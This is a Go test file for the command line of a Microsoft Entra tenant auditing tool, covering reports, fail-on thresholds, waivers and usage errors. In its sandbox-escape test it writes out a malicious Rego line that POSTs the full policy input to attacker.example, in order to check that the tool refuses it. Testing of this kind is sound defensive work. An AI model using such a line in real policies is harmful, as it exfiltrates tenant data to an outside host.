package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/entra-audit/entra-audit/internal/finding"
	"github.com/entra-audit/entra-audit/internal/policy"
	"github.com/entra-audit/entra-audit/internal/snapshot"
)

// auditMain runs the command line and returns exit code, stdout, stderr.
func auditMain(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	return auditMainIO(args...)
}

func auditMainIO(args ...string) (int, string, string) {
	var out, errb bytes.Buffer
	code := Main(args, &IO{In: strings.NewReader(""), Out: &out, Err: &errb, Getenv: func(string) string { return "" }})
	return code, out.String(), errb.String()
}

// demoSnapshot snapshots the embedded demo tenant through the CLI.
func demoSnapshot(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "snapshot")
	if code, _, stderr := auditMain(t, "snapshot", "--demo", "--out", dir); code != ExitOK {
		t.Fatalf("snapshot --demo: exit %d\n%s", code, stderr)
	}
	return dir
}

func readFindings(t *testing.T, out string) finding.Report {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(out, "findings.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rep finding.Report
	if err := json.Unmarshal(b, &rep); err != nil {
		t.Fatalf("findings.json does not decode into finding.Report: %v", err)
	}
	return rep
}

const fixedTime = "2026-11-26T10:05:00Z"

func TestAuditDemoWritesFindingsJSON(t *testing.T) {
	snap := demoSnapshot(t)
	out := filepath.Join(t.TempDir(), "out")
	code, _, stderr := auditMain(t, "audit", "--snapshot", snap, "--out", out, "--format", "json",
		"--evaluation-time", fixedTime, "--policy", "../../examples/custom-policy")
	if code != ExitOK {
		t.Fatalf("audit: exit %d (want 0: --fail-on defaults to never)\n%s", code, stderr)
	}
	rep := readFindings(t, out)
	if rep.SchemaVersion != finding.ReportSchemaVersion || rep.Tenant.ID != "bdd640fb-0667-4ad1-9c80-317fa3b1799d" ||
		rep.Tenant.DefaultDomain != "contoso.com" || rep.EvaluatedAt.Format("2006-01-02T15:04:05Z") != fixedTime ||
		rep.Tool.Name != "entra-audit" || len(rep.Collection) == 0 {
		t.Errorf("report header = %+v %+v %s %+v", rep.Tool, rep.Tenant, rep.EvaluatedAt, rep.Collection)
	}
	if _, err := os.Stat(filepath.Join(out, "results.sarif")); err == nil {
		t.Error("--format json wrote SARIF too")
	}
	var custom *finding.Result
	for i, r := range rep.Controls {
		if r.ID == "" || r.Title == "" || r.Severity.Rank() == 0 || r.Status == finding.StatusUnknown || r.Frameworks == nil || r.Findings == nil {
			t.Errorf("control %d lacks a field of the schema: %+v", i, r.Control)
		}
		for _, f := range r.Findings {
			if f.Location == nil {
				continue
			}
			if _, err := os.Stat(filepath.Join(snap, f.Location.File)); err != nil || f.Location.Line < 1 {
				t.Errorf("%s: finding location %+v does not point into the snapshot", r.ID, f.Location)
			}
		}
		if r.ID == "ACME.TEN.1v1" {
			custom = &rep.Controls[i]
		}
	}
	if custom == nil {
		t.Fatal("the custom control ACME.TEN.1v1 is not in findings.json")
	}
	want := finding.Location{File: "tenant/authorization-policy.yaml", Line: 1}
	if custom.Status != finding.StatusFail || custom.Source != "../../examples/custom-policy/tenant/self_service_signup/self_service_signup.rego" ||
		len(custom.Findings) != 1 || custom.Findings[0].Location == nil || *custom.Findings[0].Location != want {
		t.Errorf("custom result = %+v (location %+v), want fail at %+v", custom, custom.Findings[0].Location, want)
	}
	if !strings.Contains(stderr, "Audited contoso.com: ") || !strings.Contains(stderr, "wrote "+filepath.Join(out, "findings.json")) {
		t.Errorf("summary on stderr:\n%s", stderr)
	}
}

func TestAuditFailOn(t *testing.T) {
	snap := demoSnapshot(t)
	for _, tc := range []struct {
		failOn string
		want   int
	}{{"never", ExitOK}, {"low", ExitFindings}, {"critical", -1}} {
		out := t.TempDir()
		code, _, stderr := auditMain(t, "audit", "-s", snap, "-o", out, "-f", "json", "--fail-on", tc.failOn)
		rep := readFindings(t, out)
		want := tc.want
		if want == -1 {
			want = ExitOK
			if len(rep.Tripping(finding.SeverityCritical, false)) > 0 {
				want = ExitFindings
			}
		}
		if code != want {
			t.Errorf("--fail-on %s: exit %d, want %d\n%s", tc.failOn, code, want, stderr)
		}
	}
}

// TestAuditFailOnCountsErrors: a control that could not be evaluated is
// never a green build. Every failing demo control is waived, so only the
// demo's error (a permission the demo app lacks) is left to trip the
// threshold; --allow-errors is the explicit opt-out.
func TestAuditFailOnCountsErrors(t *testing.T) {
	snap := demoSnapshot(t)
	first := t.TempDir()
	if code, _, stderr := auditMain(t, "audit", "-s", snap, "-o", first, "-f", "json"); code != ExitOK {
		t.Fatalf("audit: exit %d\n%s", code, stderr)
	}
	var waivers strings.Builder
	var errored []string
	for _, r := range readFindings(t, first).Controls {
		switch r.Status {
		case finding.StatusFail:
			fmt.Fprintf(&waivers, "  - {control: %s, reason: test, owner: test@example.com, expires: 2099-01-01}\n", r.ID)
		case finding.StatusError:
			errored = append(errored, r.ID)
		}
	}
	if len(errored) == 0 {
		t.Fatal("the demo audit has no error result: the test needs one")
	}
	cfg := filepath.Join(t.TempDir(), "entra-audit.yaml")
	if err := os.WriteFile(cfg, []byte("waivers:\n"+waivers.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	out := t.TempDir()
	code, _, stderr := auditMain(t, "audit", "-s", snap, "-o", out, "-f", "json", "-c", cfg, "--fail-on", "info")
	if rep := readFindings(t, out); rep.Counts()[finding.StatusFail] != 0 {
		t.Fatalf("the waivers left %d failing controls", rep.Counts()[finding.StatusFail])
	}
	if code != ExitFindings {
		t.Errorf("--fail-on info with only errors left: exit %d, want %d (an error is never a pass)\n%s", code, ExitFindings, stderr)
	}
	for _, id := range errored {
		if !strings.Contains(stderr, id) || !strings.Contains(stderr, "could not be evaluated") {
			t.Errorf("the summary does not say %s could not be evaluated:\n%s", id, stderr)
		}
	}
	code, _, stderr = auditMain(t, "audit", "-s", snap, "-o", t.TempDir(), "-f", "json", "-c", cfg, "--fail-on", "info", "--allow-errors")
	if code != ExitOK {
		t.Errorf("--allow-errors: exit %d, want %d\n%s", code, ExitOK, stderr)
	}
}

func TestAuditRefusesSandboxEscapes(t *testing.T) {
	snap := demoSnapshot(t)
	dir := filepath.Join(t.TempDir(), "evil")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	src, err := os.ReadFile("../../examples/custom-policy/tenant/self_service_signup/self_service_signup.rego")
	if err != nil {
		t.Fatal(err)
	}
	evil := string(src) + "\nevidence contains {\"leak\": http.send({\"method\": \"POST\", \"url\": \"https://attacker.example\", \"body\": input})} if true\n"
	if err := os.WriteFile(filepath.Join(dir, "evil.rego"), []byte(evil), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "out")
	code, _, stderr := auditMain(t, "audit", "--snapshot", snap, "--out", out, "--policy", dir)
	line := strings.Count(string(src), "\n") + 2
	want := "custom policy " + dir + "/evil.rego:" + strconv.Itoa(line) + ": http.send is not allowed: policies run sandboxed without network access"
	if code != ExitUsage || !strings.Contains(stderr, want) {
		t.Errorf("exit %d, stderr:\n%s\nwant exit 2 and %q", code, stderr, want)
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("a refused policy still produced reports")
	}
}

func TestAuditUsageErrors(t *testing.T) {
	snap := demoSnapshot(t)
	badConfig := filepath.Join(t.TempDir(), "entra-audit.yaml")
	if err := os.WriteFile(badConfig, []byte("controls:\n  MS.AAD.99.1v1:\n    disabled: true\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cases := map[string]struct {
		args []string
		want string
	}{
		"no snapshot":     {[]string{"audit", "--out", t.TempDir()}, "--snapshot is required"},
		"no out":          {[]string{"audit", "--snapshot", snap}, "--out is required"},
		"bad fail-on":     {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--fail-on", "sometimes"}, `--fail-on "sometimes"`},
		"bad format":      {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--format", "pdf"}, `unknown report format "pdf"`},
		"missing snap":    {[]string{"audit", "-s", filepath.Join(t.TempDir(), "none"), "-o", t.TempDir()}, "--snapshot"},
		"bad time":        {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--evaluation-time", "today"}, "not an RFC 3339 time"},
		"unknown control": {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--config", badConfig}, badConfig + `:2: controls: "MS.AAD.99.1v1" is not a control ID`},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			code, _, stderr := auditMain(t, tc.args...)
			if code != ExitUsage || !strings.Contains(stderr, tc.want) {
				t.Errorf("exit %d, stderr %q; want exit 2 and %q", code, stderr, tc.want)
			}
		})
	}
}

func TestExampleConfigLoadsWithTheBuiltinPack(t *testing.T) {
	cfg, err := policy.LoadConfig("../../examples/entra-audit.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := loadEngine(t.Context(), cfg, nil); err != nil {
		t.Fatalf("examples/entra-audit.yaml against the built-in pack: %v", err)
	}
}

func TestSnapshotLocatorPointsIntoSingletons(t *testing.T) {
	dir := demoSnapshot(t)
	snap, err := snapshot.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	loc := snapshotLocator{snap}
	b, err := os.ReadFile(filepath.Join(dir, "authentication-methods/policy.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	want := 0
	for i, l := range strings.Split(string(b), "\n") {
		if strings.TrimSpace(l) == "- id: Sms" {
			want = i + 1
		}
	}
	got, ok := loc.Locate("authenticationMethods.policy", "Sms")
	if !ok || got.File != "authentication-methods/policy.yaml" || got.Line != want || want == 0 {
		t.Errorf("Locate(Sms) = %+v %v, want line %d", got, ok, want)
	}
	if got, ok := loc.Locate("conditionalAccess.policies", "ab9099a4-35a2-40ae-9af3-05535ec42e08"); !ok ||
		!strings.HasPrefix(got.File, "conditional-access/policies/ca002-") {
		t.Errorf("Locate(CA002) = %+v %v", got, ok)
	}
	if _, ok := loc.Locate("conditionalAccess.policies", ""); ok {
		t.Error("a collection-wide finding has no single file")
	}
}

// TestExampleConfigOnTheDemo audits the demo with the documented example
// configuration: a whole-control waiver, a resource-scoped one, a disabled
// control, and the waiver expiring.
func TestExampleConfigOnTheDemo(t *testing.T) {
	snap := demoSnapshot(t)
	audit := func(at string) finding.Report {
		out := t.TempDir()
		code, _, stderr := auditMain(t, "audit", "-s", snap, "-o", out, "-f", "json", "--config", "../../examples/entra-audit.yaml",
			"--evaluation-time", at)
		if code != ExitOK {
			t.Fatalf("exit %d\n%s", code, stderr)
		}
		return readFindings(t, out)
	}
	byID := func(rep finding.Report, id string) *finding.Result {
		for i := range rep.Controls {
			if rep.Controls[i].ID == id {
				return &rep.Controls[i]
			}
		}
		return nil
	}

	rep := audit(fixedTime)
	if want := []string{"control MS.AAD.2.2v1 is disabled by the configuration"}; !slices.Equal(rep.Warnings, want) {
		t.Errorf("warnings = %q, want %q (every example waiver must match the demo)", rep.Warnings, want)
	}
	if byID(rep, "MS.AAD.2.2v1") != nil {
		t.Error("the disabled control MS.AAD.2.2v1 is in the report")
	}
	ga := byID(rep, "MS.AAD.7.2v1")
	if ga.Status != finding.StatusWaived || ga.Waiver == nil || ga.Waiver.Ticket != "SEC-1234" || len(ga.Findings) == 0 {
		t.Errorf("MS.AAD.7.2v1 = %+v, want waived with its waiver and findings kept", ga)
	}
	app := byID(rep, "EA.APP.5v1")
	var waived []string
	for _, f := range app.Findings {
		if f.Waiver != nil {
			waived = append(waived, f.Resource.ID)
		}
	}
	if app.Status != finding.StatusFail || !slices.Equal(waived, []string{"e2acf72f-9e57-4f7a-a0ee-89aed453dd32"}) ||
		!strings.HasSuffix(app.Message, "(1 more waived)") {
		t.Errorf("EA.APP.5v1 = %s %q, waived %v: want fail with only HR Sync waived", app.Status, app.Message, waived)
	}

	rep = audit("2027-04-01T00:00:00Z")
	ga = byID(rep, "MS.AAD.7.2v1")
	if ga.Status != finding.StatusFail || !ga.Waiver.Expired || !strings.HasPrefix(ga.Message, "waiver expired on 2027-03-31; ") {
		t.Errorf("after expiry MS.AAD.7.2v1 = %s %q, want fail: waiver expired", ga.Status, ga.Message)
	}
}
